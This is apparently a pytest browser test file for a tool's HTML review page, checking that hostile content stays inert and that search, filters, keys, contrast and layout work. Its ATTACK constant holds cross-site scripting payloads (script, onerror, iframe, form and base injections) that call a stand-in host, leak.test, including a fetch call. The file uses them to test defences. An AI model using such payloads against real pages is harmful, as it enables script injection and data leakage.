"""The page of a review in a real browser: nothing of its text runs, nothing leaves, and its search and filters work.

`pytest -m browser`; .ci/run does it. Without a browser these tests fail.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from promptc.cli.review_html import page
from promptc.core.review import Review
from tests.browser.chromium import Chromium, Trap
from tests.cli import review_world

pytestmark = pytest.mark.browser

ATTACK = (
    "<script>document.title='RAN';fetch('http://leak.test/s')</script>"
    "<img src=http://leak.test/i onerror=\"document.title='RAN'\"><svg onload=\"document.title='RAN'\"></svg>"
    "<iframe src=http://leak.test/f></iframe><link rel=stylesheet href=http://leak.test/c>"
    "<style>h1{background:url(http://leak.test/b)}</style><p style='background:url(http://leak.test/p)'></p>"
    "<form action=http://leak.test/x id=f><input name=q></form><base href=http://leak.test/>"
)
SEEN = "[...document.querySelectorAll('details.group')].filter((one) => !one.hidden).map((one) => Number(one.dataset.number))"


@pytest.fixture(scope="module")
def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chromium]:
    browser = Chromium(tmp_path_factory.mktemp("browser"), Trap())
    yield browser
    browser.close()


def opened(chromium: Chromium, review: Review, folder: Path) -> str:
    path = folder / "review.html"
    path.write_text(page(review))
    chromium.open_review(path)
    return path.as_uri()


def test_the_trap_catches_what_a_page_asks_for(chromium: Chromium, tmp_path: Path) -> None:
    # Without this the tests below could pass because nothing is ever seen.
    path = tmp_path / "open.html"
    path.write_text(f"<!doctype html><title>open</title><body>{ATTACK}")
    chromium.open(path)
    chromium.until("document.title === 'RAN'")
    assert {"leak.test/s", "leak.test/i", "leak.test/c"} <= set(chromium.trap.of("leak.test"))
    assert any("leak.test" in url for url in chromium.requests())
    chromium.trap.asked.clear()


def test_a_hostile_review_is_inert(chromium: Chromium, tmp_path: Path) -> None:
    review = review_world.hostile()
    url = opened(chromium, review, tmp_path)
    chromium.js("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
    for word in ("script", "leak.test", "<img", "tenant-3"):
        chromium.js("document.getElementById('search').focus(), document.getElementById('search').select()")
        chromium.write(word)
    chromium.js("new Promise((done) => setTimeout(done, 400))")
    assert chromium.js("document.title").startswith("11 targets changed: <script>document.title='RAN'")
    assert chromium.js("document.documentElement.dataset.ran ?? 'not'") == "not"
    assert chromium.js("location.href") == url
    assert chromium.js("[...document.scripts].map((one) => one.type)") == ["application/json", ""]
    there = "img, iframe, object, embed, link, base, form, a[href]:not([href^='#']), meta[http-equiv=refresh], svg *:not(rect)"
    assert chromium.js(f"document.querySelectorAll({there!r}).length") == 0
    named = "[...document.querySelectorAll('*')].flatMap((one) => [...one.attributes]).filter((one) => one.name.startsWith('on')).length"
    assert chromium.js(named) == 0
    assert chromium.requests() == [url]
    assert chromium.trap.of("leak.test") == []
    assert chromium.complaints() == []
    # What reorders or hides text stands nowhere, neither in text nor in attributes.
    seen = chromium.js("document.body.outerHTML")
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\u202a-\u202e\u2066-\u2069\u2028\u2029\u200b\ufeff]", seen)


def test_the_policy_holds_where_escaping_would_not(chromium: Chromium, tmp_path: Path) -> None:
    path = tmp_path / "review.html"
    path.write_text(page(review_world.everyday(40)).replace("<main", f"{ATTACK}<main", 1))
    chromium.open_review(path)
    chromium.js("document.getElementById('f').submit(), new Promise((done) => setTimeout(done, 400))")
    assert chromium.js("document.title").endswith("main → working tree")
    assert chromium.trap.of("leak.test") == []
    assert any("Content Security Policy" in said for said in chromium.complaints())


def test_search_finds_text_and_tenants(chromium: Chromium, tmp_path: Path) -> None:
    opened(chromium, review_world.everyday(), tmp_path)
    chromium.key("/")
    chromium.write("in WRITING")
    chromium.until(f"{SEEN}.join() === '4'")
    assert chromium.js("CSS.highlights.get('found')?.size") >= 1
    chromium.key("Escape")
    chromium.until(f"{SEEN}.join() === '1,2,3,4,5,6'")
    chromium.key("/")
    chromium.write("acme-000/classify")
    chromium.until(f"{SEEN}.join() === '2,4,5,6'")
    assert chromium.js("document.getElementById('status').textContent") == "4 of 6 groups, 1 of 1,240 targets"
    chromium.key("Escape")


@pytest.mark.parametrize(
    ("field", "value", "groups", "status"),
    [
        ("class", "interface", "3", "1 of 6 groups, 620 of 1,240 targets"),
        ("prompt", "0", "2,4,5,6", "4 of 6 groups, 620 of 1,240 targets"),
        ("label", "1:0", "2,3,4,5,6", "5 of 6 groups, 124 of 1,240 targets"),
        ("owner", "team-classify", "2,4,5,6", "4 of 6 groups, 1,240 of 1,240 targets"),
        ("tenant", "umbrella-154", "1,3,4,6", "4 of 6 groups, 2 of 1,240 targets"),
        ("tenant", "nobody", "", "0 of 6 groups, 0 of 1,240 targets"),
    ],
)
def test_filters(chromium: Chromium, tmp_path: Path, field: str, value: str, groups: str, status: str) -> None:
    opened(chromium, review_world.everyday(), tmp_path)
    at = f"document.getElementById('by-{field}')"
    chromium.js(f"({at}.value = {value!r}, {at}.dispatchEvent(new Event('input', {{ bubbles: true }})))")
    chromium.until(f"document.getElementById('status').textContent === {status!r}")
    assert ",".join(map(str, chromium.js(SEEN))) == groups
    assert chromium.js("document.getElementById('nothing').hidden") is (groups != "")
    chromium.js("document.getElementById('clear').click()")
    assert chromium.js(SEEN) == [1, 2, 3, 4, 5, 6]


def test_keys(chromium: Chromium, tmp_path: Path) -> None:
    opened(chromium, review_world.everyday(), tmp_path)
    current = "Number(document.querySelector('.group.is-current')?.dataset.number)"
    for key, number in (("j", 1), ("j", 2), ("j", 3), ("k", 2)):
        chromium.key(key)
        assert chromium.js(current) == number
    assert chromium.js("document.querySelector('#g2').open") is True
    chromium.key("e")
    assert chromium.js("document.querySelector('#g2').open") is False
    chromium.key("v")
    assert chromium.js("document.getElementById('viewed').textContent") == "1 of 6 viewed"
    columns = "getComputedStyle(document.querySelector('#g1 .row')).gridTemplateColumns.split(' ').length"
    assert chromium.js(columns) == 2
    chromium.key("u")
    assert chromium.js(columns) == 1


def test_many_targets_are_listed_without_as_many_elements(chromium: Chromium, tmp_path: Path) -> None:
    opened(chromium, review_world.huge(), tmp_path)
    elements = chromium.js("document.querySelectorAll('*').length")
    chromium.js("document.querySelector('#g4 details.who').open = true")
    chromium.until("document.querySelector('#g4 .rows code')")
    chromium.js("{ const box = document.querySelector('#g4 .rows'); box.scrollTop = box.scrollHeight; }")
    chromium.until(
        "[...document.querySelectorAll('#g4 .rows code')].at(-1).textContent === 'tenant-049999/support-reply'"
    )
    assert chromium.js("document.querySelectorAll('*').length") < elements + 120
    assert elements < 3_000


def test_it_can_be_read_without_its_script(chromium: Chromium, tmp_path: Path) -> None:
    path = tmp_path / "review.html"
    path.write_text(page(review_world.everyday()))
    chromium.say("Emulation.setScriptExecutionDisabled", value=True)
    try:
        chromium.open(path)
        shown = chromium.js(
            "[...document.querySelectorAll('#g4 ins')].map((one) => one.checkVisibility() && one.textContent)"
        )
        assert shown[0].startswith("after: Refunds are possible within 14 days")
        assert (
            chromium.js(
                "[...document.querySelectorAll('.filters, .search, .copy')].some((one) => one.checkVisibility())"
            )
            is False
        )
    finally:
        chromium.say("Emulation.setScriptExecutionDisabled", value=False)


# Every text against the background that is painted behind it, by WCAG 2.2's formula for contrast.
CONTRAST = """(() => {
  const parse = (said) => {
    const numbers = said.match(/[\\d.e-]+/g).map(Number);
    const scale = said.startsWith("color(") ? 255 : 1;
    return [...numbers.slice(0, 3).map((one) => one * scale), numbers[3] ?? 1];
  };
  const over = ([r, g, b, a], under) => [r, g, b].map((one, at) => one * a + under[at] * (1 - a));
  const back = (one) => one ? over(parse(getComputedStyle(one).backgroundColor), back(one.parentElement)) : [255, 255, 255];
  const light = (colour) => {
    const [r, g, b] = colour.map((one) => one / 255).map((one) => one <= 0.04045 ? one / 12.92 : ((one + 0.055) / 1.055) ** 2.4);
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const poor = new Set();
  for (const one of document.querySelectorAll("body *")) {
    const own = [...one.childNodes].some((node) => node.nodeType === 3 && node.data.trim());
    if (!own || !one.checkVisibility() || one.closest(".unseen, option, script")) continue;
    const behind = back(one);
    const [a, b] = [light(over(parse(getComputedStyle(one).color), behind)), light(behind)];
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    if (ratio < 4.5) poor.add(`${one.tagName} .${one.className} in .${one.parentElement.className}: ${ratio.toFixed(2)}`);
  }
  return [...poor];
})()"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_text_can_be_told_from_its_background(chromium: Chromium, tmp_path: Path, scheme: str) -> None:
    chromium.say("Emulation.setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": scheme}])
    opened(chromium, review_world.everyday(), tmp_path)
    chromium.js("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
    assert chromium.js("matchMedia('(prefers-color-scheme: dark)').matches") is (scheme == "dark")
    assert chromium.js(CONTRAST) == []


@pytest.mark.parametrize("width", [1440, 900, 420, 320])
def test_nothing_is_wider_than_the_window(chromium: Chromium, tmp_path: Path, width: int) -> None:
    chromium.say("Emulation.setDeviceMetricsOverride", width=width, height=900, deviceScaleFactor=1, mobile=False)
    try:
        for review in (review_world.everyday(), review_world.hostile()):
            opened(chromium, review, tmp_path)
            chromium.js("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
            assert chromium.js("document.documentElement.scrollWidth") <= width
    finally:
        chromium.say("Emulation.clearDeviceMetricsOverride")
